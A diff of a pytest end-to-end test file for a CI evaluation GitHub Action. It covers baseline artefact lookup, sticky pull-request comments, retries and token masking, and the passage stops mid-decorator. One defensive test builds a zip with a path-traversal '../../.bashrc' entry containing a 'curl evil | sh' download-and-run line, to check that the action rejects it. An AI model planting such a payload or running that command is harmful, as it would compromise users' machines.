@@ -1,14 +1,13 @@
 """`ci-eval action` end to end: a real process with a real event payload, real
 GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files, a small project whose retriever is a Python
-callable, and the loopback GitHub of github_standin.py (which validates every request and
-response against GitHub's OpenAPI description). Baselines are real artefacts, zipped the way
-upload-artifact zips them."""
+callable, and the loopback GitHub of github_standin.py, which validates every request and
+response against GitHub's OpenAPI description. Baselines are real artefacts (`ci-eval run`
+or a push job of the action itself), zipped the way upload-artifact zips them."""
 
 from __future__ import annotations
 
 import json
 import os
-import re
 import subprocess
 import sys
 from dataclasses import dataclass
@@ -27,27 +26,38 @@ FORK = "someone/rag-app"
 PREFIX = f"/repos/{REPO}"
 MARKER = "<!-- ci-eval:report -->"
 WORKFLOW_REF = f"{REPO}/.github/workflows/ci-eval.yml@refs/heads/main"
-RUNS_PATH = f"{PREFIX}/actions/workflows/ci-eval.yml/runs"
-BASE = fake_sha("base")
-HEAD = fake_sha("head")
-MERGE = fake_sha("merge")
-OLDER = fake_sha("older")
+RUNS = "/actions/workflows/ci-eval.yml/runs"
+COMMENTS = "/issues/7/comments"
+BASE = fake_sha("base")  # the PR's base commit
+HEAD = fake_sha("head")  # the PR's head commit
+MERGE = fake_sha("merge")  # GITHUB_SHA of a pull_request job: a merge commit nobody knows
+OLDER = fake_sha("older")  # an older commit of main
+NEWER = fake_sha("newer")  # a newer commit of main, not the PR's base
 PR = 7
+FORK_PR = 8
+FORK_HEAD = fake_sha("fork-head")
+TWO_HOURS = timedelta(hours=2, minutes=10)
+THREE_DAYS = timedelta(days=3, hours=1)
 
 GOLD = {
     "schema_version": 1,
     "index_version": "idx-2",
     "questions": [
         {"id": "q1", "question": "alpha please", "gold": ["alpha"], "tags": ["greek"]},
+        # "retired" is not in the index (fake_retrievers.manifest): a stale gold id.
         {"id": "q2", "question": "beta please", "gold": {"beta": 2, "retired": 1}},
         {"id": "q3", "question": "gamma please", "gold": ["gamma"], "tags": ["greek"]},
         {"id": "q4", "question": "nothing about omega", "gold": [], "unanswerable": True},
     ],
 }
+# The lexical retriever answers "zeta" with alpha: a miss, so hit@1 is 3/4 under this gold set.
+STRICT_GOLD = dict(
+    GOLD, questions=[*GOLD["questions"], {"id": "q5", "question": "zeta please", "gold": ["gamma"]}]
+)
 CONFIG = """gold_set = "{gold}"
 k = 1
 abstain_below = 0.9
-{extra}
+{gate}
 [retriever]
 type = "python"
 target = "fake_retrievers:lexical"
@@ -57,14 +67,14 @@ callable = "fake_retrievers:manifest"
 """
 
 
-# -- the project, its baseline and the environment of one job ------------------------------
+# -- the checkout, the baseline and one job's environment ----------------------------------
 
 
-def _clean_environ() -> dict[str, str]:
-    """This process's environment without anything a CI runner may have set for itself."""
+def clean_environ() -> dict[str, str]:
+    """This process's environment without what a CI runner set for its own job."""
     drop = ("GITHUB_", "INPUT_", "RUNNER_", "CI_EVAL_", "ACTIONS_")
     env = {k: v for k, v in os.environ.items() if not k.startswith(drop)}
-    for proxy in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"):
+    for proxy in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
         env.pop(proxy, None)
     env["NO_PROXY"] = env["no_proxy"] = "127.0.0.1,localhost"
     env["PYTHONPATH"] = os.pathsep.join([str(TESTS), str(REPO_ROOT)])
@@ -72,67 +82,78 @@ def _clean_environ() -> dict[str, str]:
 
 
 @pytest.fixture(scope="module")
-def project(tmp_path_factory) -> Path:
-    """The checkout: a gold set (one id missing from the index), a passing config and a
-    strict one whose floor fails, plus a gold set the lexical retriever half misses."""
+def checkout(tmp_path_factory) -> Path:
+    """The job's working directory: a gold set, a passing config and a strict one."""
     root = tmp_path_factory.mktemp("checkout")
     (root / "eval").mkdir()
     (root / "eval" / "gold.json").write_text(json.dumps(GOLD, indent=2) + "\n")
-    strict_gold = dict(GOLD, questions=[*GOLD["questions"],
-                                        {"id": "q5", "question": "zeta please", "gold": ["gamma"]}])
-    (root / "eval" / "strict-gold.json").write_text(json.dumps(strict_gold, indent=2) + "\n")
-    (root / "ci-eval.toml").write_text(CONFIG.format(gold="eval/gold.json", extra=""))
+    (root / "eval" / "strict-gold.json").write_text(json.dumps(STRICT_GOLD, indent=2) + "\n")
+    (root / "ci-eval.toml").write_text(CONFIG.format(gold="eval/gold.json", gate=""))
     (root / "strict.toml").write_text(
-        CONFIG.format(gold="eval/strict-gold.json", extra='[gate]\nmin = { "hit@1" = 0.9 }\n'))
+        CONFIG.format(gold="eval/strict-gold.json", gate='[gate]\nmin = { "hit@1" = 0.9 }\n')
+    )
     return root
 
 
 @pytest.fixture(scope="module")
-def base_zip(project, tmp_path_factory) -> bytes:
-    """The artifact a push run of the base branch left: `ci-eval run`, zipped."""
+def base_artefact(checkout, tmp_path_factory) -> bytes:
+    """What `ci-eval run` wrote for the base commit."""
     out = tmp_path_factory.mktemp("base") / "ci-eval-run.json"
-    env = {**_clean_environ(), "GITHUB_SHA": BASE, "GITHUB_REF": "refs/heads/main"}
+    env = {**clean_environ(), "GITHUB_SHA": BASE, "GITHUB_REF": "refs/heads/main"}
     done = subprocess.run(
-        [sys.executable, "-m", "ci_eval", "run", "--config", "ci-eval.toml", "--out", str(out),
-         "--quiet"], cwd=project, env=env, capture_output=True, text=True, timeout=120)
+        [sys.executable, "-m", "ci_eval", "run", "--out", str(out), "--quiet"],
+        cwd=checkout, env=env, capture_output=True, text=True, timeout=120,
+    )
     assert done.returncode == 0, done.stderr
-    assert json.loads(out.read_text())["git"]["sha"] == BASE
-    return build_zip({"ci-eval-run.json": out.read_bytes()})
+    return out.read_bytes()
+
+
+@pytest.fixture(scope="module")
+def base_zip(base_artefact) -> bytes:
+    return build_zip({"ci-eval-run.json": base_artefact})
+
+
+def artefact_with_sha(artefact: bytes, sha: str) -> bytes:
+    data = json.loads(artefact)
+    data["git"]["sha"] = sha
+    return json.dumps(data, sort_keys=True).encode()
 
 
 @pytest.fixture
 def gh():
-    with GitHubStandIn(REPOSITORY_DEFAULT := REPO) as server:  # noqa: F841
+    with GitHubStandIn(REPO) as server:
         server.add_pull(PR, head_sha=HEAD, base_sha=BASE)
         yield server
-        # Every request the action made and every answer it got matched GitHub's description.
+        # Every request the action made, and every answer, matched GitHub's description;
+        # the blob host never saw the token.
         server.assert_clean()
 
 
-def pr_event(number=PR, head_sha=HEAD, base_sha=BASE, head_repo=REPO, base_ref="main",
-             head_ref="feature") -> dict:
+def pr_event(number=PR, head_sha=HEAD, base_sha=BASE, head_repo=REPO) -> dict:
     return {
         "action": "synchronize",
         "number": number,
         "pull_request": {
             "number": number,
-            "head": {"sha": head_sha, "ref": head_ref, "repo": {"full_name": head_repo}},
-            "base": {"sha": base_sha, "ref": base_ref, "repo": {"full_name": REPO}},
+            "head": {"sha": head_sha, "ref": "feature", "repo": {"full_name": head_repo}},
+            "base": {"sha": base_sha, "ref": "main", "repo": {"full_name": REPO}},
         },
         "repository": {"full_name": REPO, "default_branch": "main"},
     }
 
 
 def push_event(sha: str) -> dict:
-    return {"ref": "refs/heads/main", "after": sha,
+    return {"ref": "refs/heads/main", "after": sha, "before": OLDER,
             "repository": {"full_name": REPO, "default_branch": "main"}}
 
 
-def workflow_run_event(run_id: int, head_sha: str, head_repo: str = FORK) -> dict:
-    return {"action": "completed",
-            "workflow_run": {"id": run_id, "head_sha": head_sha, "event": "pull_request",
-                             "head_repository": {"full_name": head_repo}},
-            "repository": {"full_name": REPO, "default_branch": "main"}}
+def workflow_run_event(run_id: int, head_sha: str = FORK_HEAD) -> dict:
+    return {
+        "action": "completed",
+        "workflow_run": {"id": run_id, "head_sha": head_sha, "event": "pull_request",
+                         "head_repository": {"full_name": FORK}},
+        "repository": {"full_name": REPO, "default_branch": "main"},
+    }
 
 
 @dataclass
@@ -142,39 +163,44 @@ class Job:
     stderr: str
     outputs: dict[str, str]
     summary: str
-    out_dir: Path
+    bundle: Path  # what upload-artifact uploads: RUNNER_TEMP/ci-eval
+
+    def bundle_zip(self) -> bytes:
+        return build_zip({p.name: p.read_bytes() for p in sorted(self.bundle.iterdir())})
+
+    def annotations(self) -> list[str]:
+        return [line for line in self.stdout.splitlines() if line.startswith("::warning")]
 
 
 def parse_outputs(text: str) -> dict[str, str]:
-    """GITHUB_OUTPUT as the runner reads it: ``name<<DELIM`` / value lines / ``DELIM``."""
+    """GITHUB_OUTPUT as the runner reads it: ``name<<DELIM``, the value's lines, ``DELIM``."""
     outputs: dict[str, str] = {}
     lines = text.split("\n")
     i = 0
     while i < len(lines):
-        if not lines[i]:
-            i += 1
-            continue
-        name, sep, delimiter = lines[i].partition("<<")
-        assert sep and delimiter, f"not a heredoc output line: {lines[i]!r}"
-        end = lines.index(delimiter, i + 1)
-        outputs[name] = "\n".join(lines[i + 1:end])
-        i = end + 1
+        if lines[i]:
+            name, sep, delimiter = lines[i].partition("<<")
+            assert sep and delimiter, f"not a multiline output: {lines[i]!r}"
+            end = lines.index(delimiter, i + 1)
+            assert name not in outputs, f"output {name} set twice"
+            outputs[name] = "\n".join(lines[i + 1:end])
+            i = end
+        i += 1
     return outputs
 
 
-def run_action(gh: GitHubStandIn, tmp_path: Path, cwd: Path, event_name: str, payload: dict | None,
-               config: str = "ci-eval.toml", sha: str = MERGE, ref: str = f"refs/pull/{PR}/merge",
-               **inputs: str) -> Job:
-    """One `ci-eval action` step. ``inputs`` are action inputs (``comment="off"``)."""
-    job = tmp_path / f"job-{len(list(tmp_path.glob('job-*')))}"
-    job.mkdir()
-    env = _clean_environ()
+def run_action(gh: GitHubStandIn, tmp_path: Path, cwd: Path, event_name: str,
+               payload: dict | None, *, sha: str = MERGE, ref: str = f"refs/pull/{PR}/merge",
+               config: str = "ci-eval.toml", **inputs: str) -> Job:
+    """One `ci-eval action` step. ``inputs`` are action inputs: ``comment="off"``."""
+    job = tmp_path / f"job{len(list(tmp_path.glob('job*')))}"
+    (job / "temp").mkdir(parents=True)
+    (job / "output").touch()
+    (job / "summary.md").touch()
+    env = clean_environ()
     if payload is not None:
         (job / "event.json").write_text(json.dumps(payload))
         env["GITHUB_EVENT_PATH"] = str(job / "event.json")
-    (job / "output").touch()
-    (job / "summary.md").touch()
-    (job / "temp").mkdir()
     env.update({
         "GITHUB_ACTIONS": "true",
         "GITHUB_API_URL": gh.api_url,
@@ -195,44 +221,554 @@ def run_action(gh: GitHubStandIn, tmp_path: Path, cwd: Path, event_name: str, pa
         env["INPUT_" + name.upper().replace("_", "-")] = value
     done = subprocess.run([sys.executable, "-m", "ci_eval", "action"], cwd=cwd, env=env,
                           capture_output=True, text=True, timeout=120)
-    # The token reaches the log only in the line that tells the runner to mask it.
-    leaks = [line for line in (done.stdout + done.stderr).splitlines() if gh.token in line]
-    assert leaks in ([], [f"::add-mask::{gh.token}"]), leaks
-    assert gh.token not in done.stderr
+    token = env["INPUT_GITHUB-TOKEN"]
+    # The token reaches the log once, in the line that tells the runner to mask it.
+    assert [line for line in done.stdout.splitlines() if token in line] in (
+        [], [f"::add-mask::{token}"])
+    assert token not in done.stderr
     return Job(done.returncode, done.stdout, done.stderr,
                parse_outputs((job / "output").read_text()), (job / "summary.md").read_text(),
                job / "temp" / "ci-eval")
 
 
 def calls(gh: GitHubStandIn) -> list[tuple[str, str]]:
-    """The API requests, in order, with the repository prefix cut off."""
+    """The API requests in order, the repository prefix cut off."""
     return [(r.method, r.path.removeprefix(PREFIX)) for r in gh.requests]
 
 
-def comment_bodies(gh: GitHubStandIn, number: int = PR) -> list[str]:
+def bodies(gh: GitHubStandIn, number: int = PR) -> list[str]:
     return [c["body"] for c in gh.comments_on(number)]
 
 
-def baseline_line(body: str) -> str:
-    return next(line for line in body.splitlines() if line.startswith("**Baseline:**"))
+def baseline_line(markdown: str) -> str:
+    return next(line for line in markdown.splitlines() if line.startswith("**Baseline:**"))
+
+
+def verdict_line(markdown: str) -> str:
+    return next(line for line in markdown.splitlines() if line.startswith("### "))
 
 
 def add_push_run(gh: GitHubStandIn, sha: str, artifact: bytes | None, age: timedelta,
-                 **run_options) -> tuple[int, int | None]:
-    created = datetime.now(timezone.utc) - age
-    run_id = gh.add_run(sha, created_at=created, **run_options)
+                 **options) -> tuple[int, int | None]:
+    """A push run of main ``age`` ago (ages are read against the real clock), with an artifact."""
+    run_id = gh.add_run(sha, created_at=datetime.now(timezone.utc) - age, **options)
     artifact_id = gh.add_artifact(run_id, artifact) if artifact is not None else None
     return run_id, artifact_id
 
 
-# -- pull_request: the baseline ------------------------------------------------------------
+def run_url(run_id: int) -> str:
+    return f"https://github.com/{REPO}/actions/runs/{run_id}"
 
 
-def test_first_run_says_plainly_there_is_no_baseline(gh, project, tmp_path):
-    job = run_action(gh, tmp_path, project, "pull_request", pr_event())
+def line_of(gold: dict, qid: str) -> int:
+    text = json.dumps(gold, indent=2)
+    return next(n for n, line in enumerate(text.splitlines(), 1) if f'"id": "{qid}"' in line)
+
+
+# -- pull_request: finding the baseline ----------------------------------------------------
+
+
+def test_first_run_says_plainly_that_there_is_no_baseline(gh, checkout, tmp_path):
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
 
     assert job.code == 0, job.stderr
-    print(job.stdout, job.stderr, calls(gh))
-    [body] = comment_bodies(gh)
-    print(body)
-    assert 0
+    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
+    assert gh.calls("actions/list-workflow-runs")[0].query == {
+        "branch": "main", "event": "push", "status": "success", "per_page": "100"}
+    [body] = bodies(gh)
+    assert body.splitlines()[0] == MARKER
+    assert verdict_line(body) == (
+        "### ✅ No baseline to compare against, so nothing was compared; this run alone: "
+        "hit@1 1.000, and the floors pass.")
+    assert baseline_line(body) == (
+        "**Baseline:** none: no successful push run of this workflow on main was found; this is "
+        "the first run or main was never evaluated. Nothing to compare against; only floors and "
+        "errors were checked.")
+    [comment] = gh.comments_on(PR)
+    assert job.outputs == {
+        "verdict": "pass",
+        "artefact": str(job.bundle / "ci-eval-run.json"),
+        "comment-url": f"https://github.com/{REPO}/pull/{PR}#issuecomment-{comment['id']}",
+        "questions": "3",
+        "stale-ids": "1",
+        "hit-at-k": "1.0000",
+        "recall-at-k": "1.0000",
+        "mrr": "1.0000",
+        "ndcg-at-k": "1.0000",
+        "hit-at-3k": "1.0000",
+    }
+    assert verdict_line(job.summary) == verdict_line(body)
+    assert baseline_line(job.summary) == baseline_line(body)
+    head = json.loads((job.bundle / "ci-eval-run.json").read_text())
+    # The PR's head commit is recorded, not the merge commit GITHUB_SHA names.
+    assert head["git"]["sha"] == HEAD and head["history"] == []
+    assert sorted(p.name for p in job.bundle.iterdir()) == [
+        "ci-eval-run.json", "comment.md", "pr.json", "scores.svg", "summary.md"]
+    assert gh.blob_requests == []
+
+
+def test_the_base_commits_own_run_is_the_baseline(gh, checkout, tmp_path, base_artefact, base_zip):
+    newer_zip = build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, NEWER)})
+    add_push_run(gh, NEWER, newer_zip, timedelta(hours=1))
+    exact, artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
+    add_push_run(gh, OLDER, newer_zip, THREE_DAYS)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [
+        ("GET", RUNS),
+        ("GET", f"/actions/runs/{exact}/artifacts"),
+        ("GET", f"/actions/artifacts/{artifact}/zip"),
+        ("GET", COMMENTS),
+        ("POST", COMMENTS),
+    ]
+    [blob] = gh.blob_requests
+    assert blob.path == f"/artifacts/{artifact}/ci-eval.zip" and "authorization" not in blob.headers
+    [body] = bodies(gh)
+    assert body.splitlines()[0] == MARKER
+    assert verdict_line(body) == (
+        "### ✅ No change: all 3 compared questions rank their gold as before (hit@1 1.000).")
+    assert baseline_line(body) == (
+        f"**Baseline:** the push run of base commit {BASE[:7]} on main (2 hours old) "
+        f"([run]({run_url(exact)})); index `idx-2`; 3 questions compared.")
+    head = json.loads((job.bundle / "ci-eval-run.json").read_text())
+    assert [entry["sha"] for entry in head["history"]] == [BASE]
+    assert json.loads((job.bundle / "ci-eval-base.json").read_text())["git"]["sha"] == BASE
+    assert job.outputs["verdict"] == "pass"
+
+
+def test_fallback_baseline_names_its_commit_and_age(gh, checkout, tmp_path, base_artefact):
+    older, artifact = add_push_run(
+        gh, OLDER, build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, OLDER)}),
+        THREE_DAYS)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [
+        ("GET", RUNS),
+        ("GET", f"/actions/runs/{older}/artifacts"),
+        ("GET", f"/actions/artifacts/{artifact}/zip"),
+        ("GET", COMMENTS),
+        ("POST", COMMENTS),
+    ]
+    [body] = bodies(gh)
+    assert baseline_line(body) == (
+        f"**Baseline:** fallback: base commit {BASE[:7]} was never evaluated by a push run, so "
+        f"the newest push run on main is used instead: {OLDER[:7]}, 3 days old "
+        f"([run]({run_url(older)})); index `idx-2`; 3 questions compared.")
+    assert baseline_line(job.summary) == baseline_line(body)
+
+
+def test_expired_and_vanished_artefacts_are_skipped(gh, checkout, tmp_path, base_zip):
+    # The base commit's artifact is listed as live but is gone by the time it is fetched.
+    exact, vanished = add_push_run(gh, BASE, base_zip, TWO_HOURS)
+    gh.state.artifacts[vanished]["expired"] = True
+    gh.mutate_next("actions/list-workflow-run-artifacts", lambda listing: {
+        **listing, "artifacts": [{**a, "expired": False} for a in listing["artifacts"]]})
+    newer, expired = add_push_run(gh, NEWER, base_zip, timedelta(days=1, hours=1))
+    gh.state.artifacts[expired]["expired"] = True
+    older, live = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [
+        ("GET", RUNS),
+        ("GET", f"/actions/runs/{exact}/artifacts"),
+        ("GET", f"/actions/artifacts/{vanished}/zip"),  # 410 Gone
+        ("GET", f"/actions/runs/{newer}/artifacts"),  # listed as expired: not fetched
+        ("GET", f"/actions/runs/{older}/artifacts"),
+        ("GET", f"/actions/artifacts/{live}/zip"),
+        ("GET", COMMENTS),
+        ("POST", COMMENTS),
+    ]
+    assert len(gh.blob_requests) == 1
+    [body] = bodies(gh)
+    assert baseline_line(body).startswith(
+        f"**Baseline:** fallback: base commit {BASE[:7]} has no run with an unexpired artefact, "
+        f"so the newest push run on main is used instead: {OLDER[:7]}, 3 days old ")
+
+
+def test_a_hostile_baseline_zip_is_skipped_with_a_warning(gh, checkout, tmp_path, base_artefact,
+                                                          base_zip):
+    hostile = build_zip({"ci-eval-run.json": base_artefact, "../../.bashrc": b"curl evil | sh"})
+    exact, _ = add_push_run(gh, BASE, hostile, TWO_HOURS)
+    older, _ = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert f"warning: skipping the baseline from run {exact}" in job.stderr
+    assert "path-traversal member name '../../.bashrc'" in job.stderr
+    assert baseline_line(bodies(gh)[0]).startswith(
+        f"**Baseline:** fallback: base commit {BASE[:7]} has no run with an unexpired artefact, "
+        f"so the newest push run on main is used instead: {OLDER[:7]}")
+
+
+def test_a_forks_run_on_a_branch_named_like_the_base_is_never_used(gh, checkout, tmp_path,
+                                                                   base_artefact, base_zip):
+    # Newest, on "main", even at the base commit: but pushed in someone's fork.
+    poisoned = build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, BASE)})
+    fork_run, _ = add_push_run(gh, BASE, poisoned, timedelta(hours=1), head_repo=FORK)
+    older, _ = add_push_run(gh, OLDER, base_zip, THREE_DAYS)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert ("GET", f"/actions/runs/{fork_run}/artifacts") not in calls(gh)
+    assert ("GET", f"/actions/runs/{older}/artifacts") in calls(gh)
+    assert f"instead: {OLDER[:7]}, 3 days old" in baseline_line(bodies(gh)[0])
+
+
+def test_only_a_forks_run_means_no_baseline_and_says_so(gh, checkout, tmp_path, base_zip):
+    fork_run, _ = add_push_run(gh, BASE, base_zip, timedelta(hours=1), head_repo=FORK)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
+    assert baseline_line(bodies(gh)[0]).startswith(
+        "**Baseline:** none: no successful push run of this workflow on main was found; this is "
+        "the first run or main was never evaluated (ignored runs from other repositories: "
+        f"{FORK})")
+
+
+def test_push_records_the_baseline_a_later_pull_request_uses(gh, checkout, tmp_path):
+    push = run_action(gh, tmp_path, checkout, "push", push_event(BASE), sha=BASE,
+                      ref="refs/heads/main")
+
+    assert push.code == 0, push.stderr
+    assert [c for c in calls(gh) if c[0] != "GET"] == []  # a push job posts nothing
+    artefact = json.loads((push.bundle / "ci-eval-run.json").read_text())
+    assert artefact["git"]["sha"] == BASE and artefact["git"]["ref"] == "refs/heads/main"
+    assert sorted(p.name for p in push.bundle.iterdir()) == [
+        "ci-eval-run.json", "comment.md", "scores.svg", "summary.md"]
+    assert push.outputs["verdict"] == "pass" and push.outputs["comment-url"] == ""
+    assert push.outputs["artefact"] == str(push.bundle / "ci-eval-run.json")
+    assert "this run records the baseline for later pull requests" in baseline_line(push.summary)
+
+    # upload-artifact stores the folder; a later pull request on that commit finds it.
+    run_id, _ = add_push_run(gh, BASE, push.bundle_zip(), TWO_HOURS)
+    gh.requests.clear()
+    pr = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert pr.code == 0, pr.stderr
+    assert ("GET", f"/actions/runs/{run_id}/artifacts") in calls(gh)
+    body = bodies(gh)[0]
+    assert baseline_line(body).startswith(
+        f"**Baseline:** the push run of base commit {BASE[:7]} on main (2 hours old)")
+    assert verdict_line(body).startswith("### ✅ No change")
+
+
+def test_the_demo_compares_with_its_built_in_baseline_when_none_is_stored(gh, tmp_path):
+    job = run_action(gh, tmp_path, tmp_path, "pull_request", pr_event(), config="demo")
+
+    assert job.code in (0, 1), job.stderr  # the demo's change may or may not pass its gate
+    assert job.outputs["verdict"] == ("pass" if job.code == 0 else "fail")
+    [body] = bodies(gh)
+    assert body.splitlines()[0] == MARKER
+    assert baseline_line(body).startswith(
+        "**Baseline:** no successful push run of this workflow on main was found; this is the "
+        "first run or main was never evaluated; the demo compares with its built-in baseline "
+        "configuration instead")
+
+
+# -- pull_request: the one sticky comment --------------------------------------------------
+
+
+def test_an_existing_sticky_comment_is_updated_not_duplicated(gh, checkout, tmp_path):
+    ours = gh.add_comment(PR, f"{MARKER}\n### ✅ an older report")
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("PATCH", f"/issues/comments/{ours}")]
+    [comment] = gh.comments_on(PR)
+    assert comment["id"] == ours and verdict_line(comment["body"]).startswith("### ✅ No baseline")
+    assert job.outputs["comment-url"].endswith(f"#issuecomment-{ours}")
+
+
+def test_someone_elses_comment_quoting_the_marker_is_left_alone(gh, checkout, tmp_path):
+    quoted = f"{MARKER}\n> ### ❌ Below the floor\nWhy did this fail? @octo-bot"
+    theirs = gh.add_comment(PR, quoted, user_login="octo-dev")
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
+    first, ours = gh.comments_on(PR)
+    assert (first["id"], first["body"], first["login"]) == (theirs, quoted, "octo-dev")
+    assert ours["login"] == gh.bot_login and ours["body"].startswith(MARKER + "\n### ✅")
+
+
+def test_duplicate_sticky_comments_are_consolidated(gh, checkout, tmp_path):
+    other_bot = gh.add_comment(PR, "Thanks for the pull request! A maintainer will look soon.")
+    keep = gh.add_comment(PR, f"{MARKER}\nfirst run's report")
+    extra = gh.add_comment(PR, f"{MARKER}\na concurrent run's report")
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    assert calls(gh) == [
+        ("GET", RUNS),
+        ("GET", COMMENTS),
+        ("PATCH", f"/issues/comments/{keep}"),
+        ("DELETE", f"/issues/comments/{extra}"),
+    ]
+    assert [c["id"] for c in gh.comments_on(PR)] == [other_bot, keep]
+    assert job.outputs["comment-url"].endswith(f"#issuecomment-{keep}")
+
+
+@pytest.mark.parametrize(("config", "code", "verdict"), [
+    ("ci-eval.toml", 0, "pass"),
+    ("strict.toml", 1, "fail"),
+])
+def test_a_read_only_token_still_evaluates_and_the_gate_alone_sets_the_exit_code(
+        gh, checkout, tmp_path, config, code, verdict):
+    gh.read_only = True  # no `pull-requests: write`: every write answers 403
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), config=config)
+
+    assert job.code == code, job.stderr
+    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]  # a 403 is final
+    assert bodies(gh) == []
+    assert (
+        "ci-eval: warning: the comment was not posted: the token may not do this: commenting on "
+        "pull request #7 (HTTP 403: Resource not accessible by integration); add "
+        "`pull-requests: write` under `permissions:` in the workflow"
+    ) in job.stderr
+    assert job.outputs["verdict"] == verdict and job.outputs["comment-url"] == ""
+    comment = (job.bundle / "comment.md").read_text()
+    assert comment.splitlines()[0] == MARKER
+    assert verdict_line(job.summary) == verdict_line(comment)
+    assert json.loads((job.bundle / "pr.json").read_text()) == {
+        "number": PR, "head_sha": HEAD, "base_sha": BASE}
+
+
+def test_server_errors_are_retried_until_github_answers(gh, checkout, tmp_path, base_zip):
+    exact, artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
+    gh.fail("actions/list-workflow-runs", 502)
+    gh.fail("actions/download-artifact", 500)
+    gh.fail_blob(503)
+    gh.fail("issues/create-comment", 503, times=2)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    zip_path = f"/actions/artifacts/{artifact}/zip"
+    assert calls(gh) == [
+        ("GET", RUNS), ("GET", RUNS),
+        ("GET", f"/actions/runs/{exact}/artifacts"),
+        ("GET", zip_path), ("GET", zip_path),  # a 500, then the redirect to a failing blob host
+        ("GET", zip_path),  # a fresh redirect
+        ("GET", COMMENTS),
+        ("POST", COMMENTS), ("POST", COMMENTS), ("POST", COMMENTS),
+    ]
+    assert len(gh.blob_requests) == 2
+    assert len(bodies(gh)) == 1 and baseline_line(bodies(gh)[0]).startswith(
+        f"**Baseline:** the push run of base commit {BASE[:7]}")
+
+
+def test_github_failing_for_good_is_exit_5_with_one_line(gh, checkout, tmp_path):
+    gh.fail("actions/list-workflow-runs", 503, times=20)
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 5
+    assert len(gh.calls("actions/list-workflow-runs")) == 5  # the first try and 4 retries
+    errors = [line for line in job.stderr.splitlines() if "error" in line]
+    assert errors == ["ci-eval: error: GitHub kept failing while listing runs of workflow "
+                      "ci-eval.yml (HTTP 503) after 5 attempts"]
+
+
+def test_pagination_finds_the_base_run_and_our_comment_on_later_pages(gh, checkout, tmp_path,
+                                                                      base_zip):
+    exact, artifact = add_push_run(gh, BASE, base_zip, THREE_DAYS)
+    for i in range(130):  # main moved on 130 times since the PR branched off
+        gh.add_run(fake_sha(f"main-{i}"), created_at=datetime.now(timezone.utc) - timedelta(hours=i))
+    for i in range(120):
+        gh.add_comment(PR, f"review comment {i}", user_login="octo-dev")
+    ours = gh.add_comment(PR, f"{MARKER}\nthe previous report")
+    for i in range(30):
+        gh.add_comment(PR, f"later comment {i}", user_login="octo-dev")
+
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())
+
+    assert job.code == 0, job.stderr
+    comment_pages = [c.query.get("page") for c in gh.calls("issues/list-comments")]
+    assert comment_pages == [None, "2"]
+    assert ("GET", f"/actions/artifacts/{artifact}/zip") in calls(gh)
+    assert calls(gh)[-1] == ("PATCH", f"/issues/comments/{ours}")
+    assert ("POST", COMMENTS) not in calls(gh)
+    body = gh.state.comments[ours]["body"]
+    assert baseline_line(body).startswith(
+        f"**Baseline:** the push run of base commit {BASE[:7]} on main (3 days old)")
+
+
+def test_a_failing_gate_exits_1_after_the_comment_and_outputs(gh, checkout, tmp_path):
+    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), config="strict.toml")
+
+    assert job.code == 1
+    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
+    [body] = bodies(gh)
+    assert body.splitlines()[0] == MARKER
+    assert verdict_line(body) == "### ❌ Below the floor: hit@1 is 0.750 (floor 0.900)."
+    assert job.outputs["verdict"] == "fail" and job.outputs["hit-at-k"] == "0.7500"
+    assert job.outputs["comment-url"].startswith(f"https://github.com/{REPO}/pull/{PR}#")
+    assert verdict_line(job.summary) == verdict_line(body)
+    assert job.stderr.rstrip().splitlines()[-1] == (
+        "ci-eval: ❌ Below the floor: hit@1 is 0.750 (floor 0.900).")
+
+
+@pytest.mark.parametrize(("mode", "existing", "expected"), [
+    ("off", False, []),
+    # The results match the baseline: nothing new to say, so no new comment...
+    ("on-change", False, [("GET", COMMENTS)]),
+    # ...but a comment already there is kept current.
+    ("on-change", True, [("GET", COMMENTS), ("PATCH", "/issues/comments/{id}")]),
+    ("always", False, [("GET", COMMENTS), ("POST", COMMENTS)]),
+])
